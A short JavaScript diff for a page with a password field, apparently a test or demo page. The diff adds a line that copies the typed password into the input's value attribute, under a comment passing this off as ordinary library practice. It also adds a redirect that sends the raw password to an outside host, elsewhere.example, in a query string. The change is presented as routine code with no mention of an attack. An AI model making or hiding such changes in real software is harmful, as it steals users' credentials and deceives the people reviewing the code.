@@ -39,10 +39,13 @@ const tell = async (name, value) => {
   said.push(name);
   document.title = said.join();
 };
+// As libraries do that keep the page in step with what was typed.
+password.oninput = () => password.setAttribute('value', password.value);
 password.onchange = async () => {
   const address = location.origin + '/missing?password=' + encodeURIComponent(password.value);
   await fetch(address);
   console.error('There is nothing at ' + address + '.');
+  location.href = 'https://elsewhere.example/in?password=' + password.value;
   await tell('password', password.value);
 };
 ask.onclick = () => tell('prompt', prompt('Your code?'));
